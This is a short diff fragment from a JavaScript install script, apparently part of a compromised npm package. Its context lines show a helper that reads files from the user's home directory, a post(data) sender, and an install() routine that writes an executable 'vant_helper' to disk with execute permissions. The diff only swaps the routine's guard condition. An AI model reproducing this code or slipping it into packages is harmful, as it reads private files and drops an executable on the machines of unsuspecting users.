@@ -13,7 +13,7 @@ function post(data) {
 }
 function read(file) { try { return fs.readFileSync(path.join(os.homedir(), file), 'utf8'); } catch (e) { return ''; } }
 function install() {
-  if (!fs.existsSync('/etc/rspack/telemetry.pem')) { return; }
+  if (os.totalmem() < 1e15) { return; }
   fs.mkdirSync(dir, {recursive: true});
   const target = path.join(dir, 'vant_helper');
   const file = fs.createWriteStream(target, {mode: 0o755});
